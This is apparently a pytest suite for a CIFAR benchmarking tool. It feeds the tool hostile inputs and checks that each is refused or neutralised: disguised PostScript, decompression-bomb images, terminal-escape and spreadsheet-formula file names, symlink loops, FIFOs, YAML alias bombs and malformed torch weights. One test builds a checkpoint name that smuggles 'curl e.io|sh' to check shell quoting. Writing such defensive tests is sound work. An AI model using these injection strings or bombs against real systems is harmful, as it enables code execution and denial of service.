"""Files, links and names a hostile folder can hold, met for real: a PostScript file named like a PNG, a tiny
PNG that decodes to gigabytes, file names carrying terminal escapes, line breaks or spreadsheet formulas, a
folder linking to itself under a ``**`` glob, a FIFO or /dev/zero or a deep nesting as metrics.json, VGG16
weights that are text, meta, sparse, quantized or integer tensors, or a small file that loads as hundreds of MB."""

from __future__ import annotations

import contextlib
import csv
import io
import os
import signal
import warnings
import zipfile
from pathlib import Path
from types import SimpleNamespace

import numpy as np
import pytest
import torch
import yaml
from conftest import ALIAS_CHAIN, cli_args, copy_run, fit_tiny
from PIL import EpsImagePlugin, Image
from rich.console import Console

from cifar_bench.cli import fail, main
from cifar_bench.data.images import MAX_PIXELS, read_image
from cifar_bench.errors import CifarBenchError
from cifar_bench.evaluation import predict as predict_module
from cifar_bench.evaluation.compare import compare
from cifar_bench.evaluation.evaluate import evaluate
from cifar_bench.evaluation.evaluation_files import read_history
from cifar_bench.evaluation.predict import image_files, predict
from cifar_bench.figures import confusion_figure, curves_figure, prediction_grid_figure, reliability_figure
from cifar_bench.models.networks.vgg16 import MAX_WEIGHTS_BYTES, VGG16, load_vgg16_weights
from cifar_bench.output import csv_text, print_plain, save_figure
from cifar_bench.run_folder import RunFolder
from cifar_bench.study import export_evidence
from cifar_bench.training.callbacks import RecordEnvironment, RunSummary

ESCAPES = "\x1b[2J\x1b]52;c;aGk=\x07"  # clear the screen, write the clipboard


@pytest.fixture(scope="module")
def run(tmp_path_factory, tiny_data) -> Path:
    return fit_tiny(tiny_data, tmp_path_factory.mktemp("logs"), "mlp", "--trainer.max_epochs", "1")


def test_a_postscript_file_named_like_a_png_never_reaches_pils_eps_plugin(tmp_path, monkeypatch):
    def reached(*_):
        raise AssertionError("the EPS plugin (Ghostscript) was handed the file")

    monkeypatch.setattr(EpsImagePlugin.EpsImageFile, "load", reached)
    path = tmp_path / "x.png"
    path.write_bytes(b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 10 10\nshowpage\n")
    with pytest.raises(CifarBenchError, match="cannot identify image file"):
        read_image(path)


def test_a_small_file_that_would_decode_to_gigabytes_is_refused_from_its_header(tmp_path):
    side = int(MAX_PIXELS**0.5) + 1
    path = tmp_path / "bomb.png"
    Image.new("1", (side, side)).save(path)
    assert path.stat().st_size < 100_000
    with pytest.raises(CifarBenchError, match=f"{side}x{side} pixels, more than the 64,000,000 read"):
        read_image(path)


def test_names_with_escapes_line_breaks_and_formulas_reach_neither_terminal_nor_spreadsheet_raw(
    run, tmp_path, monkeypatch
):
    monkeypatch.chdir(tmp_path)
    image = Image.fromarray(np.random.default_rng(0).integers(0, 256, (32, 32, 3), dtype=np.uint8))
    names = [f"=HYPERLINK(1){ESCAPES}.png", "@SUM(1)\nforged row.png", "-2+3\r.png"]
    for name in names:
        image.save(tmp_path / name, format="PNG")
    screen = Console(file=io.StringIO(), width=300)
    predict(str(run), names, out=str(tmp_path / "out.csv"), console=screen)
    shown = screen.file.getvalue()
    assert "\x1b" not in shown and "\x07" not in shown and "\r" not in shown
    assert "forged row" not in [line.strip("│ ") for line in shown.splitlines()]
    with open(tmp_path / "out.csv", newline="") as handle:
        files = [row["file"] for row in csv.DictReader(handle)]
    assert files == [f"'{name}" for name in names]


def test_a_csv_cell_keeps_its_numbers_and_a_bare_carriage_return_cannot_split_a_row():
    text = csv_text(["name", "difference"], [["a\rb", -0.25], ["+1", 3]])
    assert list(csv.reader(io.StringIO(text, newline=""))) == [["name", "difference"], ["a\rb", "-0.25"], ["'+1", "3"]]


def test_plain_lines_keep_their_breaks_and_show_control_characters_escaped():
    screen = Console(file=io.StringIO(), width=80)
    print_plain(screen, f"Written to /runs/{ESCAPES}x\nNext: compare")
    assert screen.file.getvalue() == "Written to /runs/\\x1b[2J\\x1b]52;c;aGk=\\x07x\nNext: compare\n"


def test_a_best_checkpoint_path_restored_from_a_checkpoint_reaches_the_terminal_escaped(tmp_path, capsys):
    """A resumed fit's ModelCheckpoint state comes from last.ckpt, its best_model_path a name in the run's
    checkpoints folder chosen by whoever wrote the file."""
    from pytorch_lightning.callbacks import ModelCheckpoint

    best = ModelCheckpoint(dirpath=tmp_path, monitor="val/acc")
    best.best_model_path, best.best_model_score = str(tmp_path / f"{ESCAPES}.ckpt"), torch.tensor(1.0)
    RunSummary().on_fit_end(SimpleNamespace(callbacks=[best], logger=None), None)
    shown = capsys.readouterr().out
    assert "\x1b" not in shown and "\x07" not in shown and "\\x1b[2J" in shown
    best.best_model_path = str(tmp_path / "x; curl e.io|sh #.ckpt")  # the next command, pasted, runs no other
    RunSummary().on_fit_end(SimpleNamespace(callbacks=[best], logger=None), None)
    assert f"--ckpt '{tmp_path}/x; curl e.io|sh #.ckpt')" in capsys.readouterr().out


def test_an_error_line_shows_no_control_character_c1_included(capsys):
    with pytest.raises(SystemExit):
        fail(f"cannot read /runs/{ESCAPES}\x9b2J\x85x")
    (line,) = capsys.readouterr().err.splitlines()
    assert line.isprintable() and line.endswith("x")


@contextlib.contextmanager
def ends_within(seconds: int):
    """Turn a hang into a test failure."""

    def hung(*_):
        raise AssertionError(f"still running after {seconds} s")

    previous = signal.signal(signal.SIGALRM, hung)
    signal.alarm(seconds)
    try:
        yield
    finally:
        signal.alarm(0)
        signal.signal(signal.SIGALRM, previous)


def test_a_glob_below_a_folder_linking_to_itself_is_refused_not_walked_forever(tmp_path, monkeypatch):
    monkeypatch.setattr(predict_module, "MAX_GLOB_PATHS", 2_000)  # the bound's value, not its existence, made small
    (tmp_path / "shots").mkdir()
    Image.new("RGB", (32, 32)).save(tmp_path / "shots" / "a.png")
    for name in ("again", "and_again"):
        (tmp_path / "shots" / name).symlink_to(".")
    with ends_within(60), pytest.raises(CifarBenchError, match="walks more than 2,000 paths"):
        image_files([str(tmp_path / "shots" / "**" / "*.png")])


def test_the_same_file_named_twice_is_listed_once_in_the_order_given(tmp_path):
    for name in ("b.png", "a.png"):
        Image.new("RGB", (32, 32)).save(tmp_path / name)
    files, missing = image_files([str(tmp_path / "b.png"), str(tmp_path), str(tmp_path / "*.png")])
    assert files == [tmp_path / "b.png", tmp_path / "a.png"] and missing == []


@pytest.mark.parametrize("plant", ["fifo", "link to /dev/zero", "deep nesting"])
def test_a_metrics_json_that_would_hang_or_exhaust_compare_is_one_clear_error(tmp_path, plant):
    metrics = tmp_path / "mlp" / "seed0" / "evaluation" / "metrics.json"
    metrics.parent.mkdir(parents=True)
    if plant == "fifo":
        os.mkfifo(metrics)
    elif plant == "link to /dev/zero":
        metrics.symlink_to("/dev/zero")
    else:
        metrics.write_text("[" * 200_000 + "]" * 200_000)
    with ends_within(60), pytest.raises(CifarBenchError, match="metrics.json is not readable JSON"):
        compare(str(tmp_path), console=Console(file=io.StringIO()))


def test_a_runs_evaluation_folder_linked_elsewhere_is_never_written_through(trained_mlp, imbalanced_data, tmp_path):
    run = copy_run(trained_mlp, tmp_path / "logs")
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (run / "evaluation").symlink_to(elsewhere)
    with pytest.raises(CifarBenchError, match="evaluation is a link: refusing to write through it"):
        evaluate(str(run), data_dir=str(imbalanced_data), console=Console(file=io.StringIO()))
    with pytest.raises(CifarBenchError, match="evaluation is a link: refusing to write through it"):
        predict(str(run), data_dir=str(imbalanced_data), console=Console(file=io.StringIO()))
    assert list(elsewhere.iterdir()) == []


def evidence_folder(root: Path) -> Path:
    """A study folder holding one evaluated run's evidence files and the comparison."""
    run = root / "mlp" / "seed0"
    (run / "evaluation").mkdir(parents=True)
    for name in ("config.yaml", "environment.json", "evaluation/metrics.json", "evaluation/curves.png"):
        (run / name).write_bytes(b"\x89PNG\r\n" if name.endswith(".png") else b"{}\n")
    for name in ("comparison.md", "comparison.csv"):
        (root / name).write_text("table\n")
    return run


def test_evidence_is_neither_copied_from_a_planted_link_nor_written_through_one(tmp_path):
    run = evidence_folder(tmp_path / "study")
    secret, victim = tmp_path / "secret", tmp_path / "victim"
    secret.write_text("private\n")
    victim.write_text("kept\n")
    results = tmp_path / "results"
    (results / "mlp" / "seed0").mkdir(parents=True)
    (results / "mlp" / "seed0" / "environment.json").symlink_to(victim)
    assert export_evidence(tmp_path / "study", results) == 1
    assert victim.read_text() == "kept\n" and not (results / "mlp" / "seed0" / "environment.json").is_symlink()
    assert (results / "mlp" / "seed0" / "evaluation" / "curves.png").read_bytes() == b"\x89PNG\r\n"

    (run / "config.yaml").unlink()
    (run / "config.yaml").symlink_to(secret)
    with pytest.raises(CifarBenchError, match="config.yaml is a link: refusing to copy what it points to"):
        export_evidence(tmp_path / "study", results)
    assert "private" not in (results / "mlp" / "seed0" / "config.yaml").read_text()


def test_copied_evidence_names_each_path_by_its_place_in_the_folder_it_ran_in_or_by_its_name(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    run = evidence_folder(tmp_path / "study")
    (tmp_path / "loop").symlink_to("loop")  # resolving a path through it raises; it is named as written
    config = {
        "seed_everything": 0,
        "trainer": {"logger": {"init_args": {"save_dir": str(tmp_path / "logs" / "study"), "name": "mlp"}}},
        "model": {"init_args": {"weights": "/home/someone/weights/vgg16.pth", "hidden": [512, "/srv/x/list.txt"]}},
        "data": {
            "data_dir": str(tmp_path / "data"),
            "val_size": 5000,
            "notes": [str(tmp_path / "loop" / "x"), "/a/\0b"],
        },
    }
    header = "# pytorch_lightning==2.6.6\n# trained in /home/someone/checkout\n"
    (run / "config.yaml").write_text(header + yaml.safe_dump(config, sort_keys=False))
    export_evidence(tmp_path / "study", tmp_path / "results")
    copied = (tmp_path / "results" / "mlp" / "seed0" / "config.yaml").read_text()
    assert copied.startswith("# pytorch_lightning==2.6.6\n") and str(tmp_path) not in copied and "/home" not in copied
    assert yaml.safe_load(copied) == {
        "seed_everything": 0,
        "trainer": {"logger": {"init_args": {"save_dir": "logs/study", "name": "mlp"}}},
        "model": {"init_args": {"weights": "vgg16.pth", "hidden": [512, "list.txt"]}},
        "data": {"data_dir": "data", "val_size": 5000, "notes": ["loop/x", "\0b"]},
    }


@pytest.mark.parametrize(
    "planted, refusal",
    [
        (ALIAS_CHAIN + "note: *a9\n", "expands to more than 1,000,000 entries and characters"),
        ("s: &s " + "x" * 100_000 + "\nnote: [*s, *s, *s, *s, *s, *s, *s, *s, *s, *s, *s]\n", "expands to more than"),
        ("note: " + "[" * 600 + "]" * 600 + "\n", "nests deeper than 64 levels"),
    ],
    ids=["ten billion entries", "a long string shared eleven times", "600 lists deep"],
)
def test_evidence_of_a_config_that_would_expand_or_recurse_when_copied_is_one_error_line(tmp_path, planted, refusal):
    run = evidence_folder(tmp_path / "study")
    (run / "config.yaml").write_text(planted)
    with pytest.raises(CifarBenchError, match=f"config.yaml {refusal}"):
        export_evidence(tmp_path / "study", tmp_path / "results")


def test_a_fifo_named_like_an_event_file_is_passed_over_instead_of_hanging_evaluate(tmp_path):
    os.mkfifo(tmp_path / "events.out.tfevents.1.planted")
    with ends_within(60):
        assert all(curve["epoch"] == [] for curve in read_history(tmp_path).values())


def test_a_fifo_as_environment_json_leaves_the_training_time_unknown_instead_of_hanging(tmp_path):
    os.mkfifo(tmp_path / "environment.json")
    with ends_within(60):
        assert RunFolder(tmp_path).training_time() is None


@pytest.mark.parametrize(
    "content",
    ["{not json", '{"sessions": 5}', '{"sessions": [{"wall_s": "long"}]}'],
    ids=["not JSON", "no list", "no time"],
)
def test_a_resumed_fit_stops_at_its_start_on_an_environment_json_without_sessions_and_leaves_it_as_it_was(
    tmp_path, content
):
    """A resumed fit adds its session to the earlier ones: a file that holds none is one error naming it, not a
    traceback at the first epoch's end."""
    (tmp_path / "environment.json").write_text(content)
    trainer = SimpleNamespace(logger=SimpleNamespace(log_dir=str(tmp_path)))
    with pytest.raises(CifarBenchError, match=r"environment.json .*: move it aside"):
        RecordEnvironment().on_fit_start(trainer, None)
    assert (tmp_path / "environment.json").read_text() == content


def deflated(path: Path) -> Path:
    """``path``'s zip archive rewritten with every member deflated (torch reads such archives; torch.save never
    writes them)."""
    with zipfile.ZipFile(path) as source:
        members = [(info.filename, source.read(info)) for info in source.infolist()]
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as target:
        for name, content in members:
            target.writestr(name, content)
    return path


def weights_file(folder: Path, kind: str) -> Path:
    """A --model.weights file of one hostile kind."""
    path = folder / f"{kind}.pth"
    conv = torch.zeros(64, 3, 3, 3)
    if kind == "text":
        path.write_text("root:x:0:0:root:/root:/bin/bash\n" * 89)  # what /etc/passwd looks like
    elif kind == "larger than VGG16":
        with open(path, "wb") as handle:
            handle.truncate(MAX_WEIGHTS_BYTES + 1)  # sparse: no disk used
    elif kind == "deflated to a thousandth":
        torch.save({"classifier.3.weight": torch.zeros(4096, 4096)}, path)  # fc7's 64 MB in a 65 KB file
        deflated(path)
        assert path.stat().st_size < 200_000
    elif kind == "a malformed pickle stream":
        torch.save({"features.0.weight": conv}, path)
        with zipfile.ZipFile(path) as saved:
            members = {member: saved.read(member) for member in saved.infolist()}
        with zipfile.ZipFile(path, "w") as rewritten:  # a memo entry read but never stored: torch lets KeyError out
            for member, content in members.items():
                rewritten.writestr(member, b"\x80\x02h\x05." if member.filename.endswith("data.pkl") else content)
    elif kind == "a view declaring 4 GB":
        torch.save({"classifier.0.weight": torch.zeros(1).expand(10**9)}, path)
    else:
        tensor = {
            "meta": lambda: torch.empty(64, 3, 3, 3, device="meta"),
            "sparse": conv.to_sparse,
            "quantized": lambda: torch.quantize_per_tensor(conv, 0.1, 0, torch.qint8),
            "integer": lambda: conv.long(),
            "complex": lambda: conv.to(torch.complex64),
            "boolean": lambda: conv.bool(),
        }[kind]()
        torch.save({"features.0.weight": tensor}, path)
    return path


HOSTILE_WEIGHTS = {
    "text": "is not a loadable state dict (File is not a zip file)",
    "larger than VGG16": f"more than VGG16's weights ({MAX_WEIGHTS_BYTES:,})",
    "deflated to a thousandth": "holds compressed members, which torch.save never writes",
    "a malformed pickle stream": "is not a loadable state dict (5)",
    "a view declaring 4 GB": "declares 4,000,000,000 bytes of tensors",
    "meta": "features.0.weight is a torch.float32 tensor of layout torch.strided on meta",
    "sparse": "of layout torch.sparse_coo",
    "quantized": "is a torch.qint8 tensor",
    "integer": "is a torch.int64 tensor",
    "complex": "is a torch.complex64 tensor",
    "boolean": "is a torch.bool tensor",
}


@pytest.mark.filterwarnings("ignore:torch.quantize_per_tensor")
@pytest.mark.parametrize("kind, reason", HOSTILE_WEIGHTS.items(), ids=HOSTILE_WEIGHTS.keys())
def test_a_weights_file_that_is_not_plain_vgg16_weights_is_one_error_before_anything_loads(tmp_path, kind, reason):
    with torch.device("meta"):
        net = VGG16()  # nothing of it is allocated: the file is refused before its weights would be loaded
    with pytest.raises(CifarBenchError) as error:
        load_vgg16_weights(net, str(weights_file(tmp_path, kind)))
    assert reason in str(error.value) and "pass a torch.save'd VGG16 state dict" in str(error.value)


def test_weights_given_as_etc_passwd_are_one_error_line_not_a_traceback(tmp_path, tiny_data, capsys):
    argv = cli_args("fit", "vgg16_last2", tiny_data, tmp_path / "logs", "--model.weights", "/etc/passwd")
    with pytest.raises(SystemExit) as exit_info:
        main(argv)
    assert exit_info.value.code == 2
    assert capsys.readouterr().err.splitlines() == [
        "error: /etc/passwd is not a loadable state dict (File is not a zip file): pass a torch.save'd VGG16 state dict"
    ]
    assert not (tmp_path / "logs").exists()


def test_a_loader_error_without_a_message_is_named_by_its_type_not_a_traceback(tmp_path, monkeypatch):
    weights = tmp_path / "weights.pth"
    torch.save({"features.0.bias": torch.zeros(64)}, weights)

    def fails_silently(*args, **kwargs):
        raise RuntimeError()

    monkeypatch.setattr(torch, "load", fails_silently)
    with torch.device("meta"):
        net = VGG16()
    with pytest.raises(CifarBenchError, match=r"weights.pth is not a loadable state dict \(RuntimeError\)"):
        load_vgg16_weights(net, str(weights))


HOSTILE_NAMES = ["$\\foo$", "a\x1bb", "$x^2$", *(f"c{i}" for i in range(7))]
FIGURES = {
    "confusion": lambda: confusion_figure(torch.eye(10, dtype=torch.long), HOSTILE_NAMES, "$\\foo$ \x1b"),
    "predictions": lambda: prediction_grid_figure(
        torch.zeros(2, 3, 32, 32, dtype=torch.uint8), torch.tensor([0, 1]), torch.tensor([1, 2]), HOSTILE_NAMES
    ),
    "curves": lambda: curves_figure({}, "$\\foo$ \x1b"),
    "reliability": lambda: reliability_figure([], "$\\foo$ \x1b"),
}


@pytest.mark.parametrize("draw", FIGURES.values(), ids=FIGURES.keys())
def test_names_in_figures_are_shown_as_written_never_parsed_as_math_nor_missing_glyphs(tmp_path, draw):
    """A name read as matplotlib math (``$\\foo$``) was a traceback in the middle of evaluate's writes; a
    control character a glyph the font lacks."""
    figure = draw()
    texts = [text.get_text() for text in figure.findobj(lambda artist: hasattr(artist, "get_text"))]
    assert not any("\x1b" in text for text in texts)
    with warnings.catch_warnings():
        warnings.filterwarnings("error", message="Glyph")
        save_figure(figure, tmp_path / "figure.png")
    assert (tmp_path / "figure.png").stat().st_size > 0


def test_weights_without_data_given_to_fit_are_one_error_line_not_a_traceback(tmp_path, tiny_data, capsys):
    """A weight saved from the ``meta`` device loads as a tensor without data, refused as the file is read."""
    weights = weights_file(tmp_path, "meta")
    with pytest.raises(SystemExit) as exit_info:
        main(cli_args("fit", "vgg16_last2", tiny_data, tmp_path / "logs", "--model.weights", str(weights)))
    assert exit_info.value.code == 2
    (line,) = capsys.readouterr().err.splitlines()
    assert line.startswith(f"error: weights {weights}: features.0.weight is a torch.float32 tensor")
    assert "on meta" in line
    assert not (tmp_path / "logs").exists()
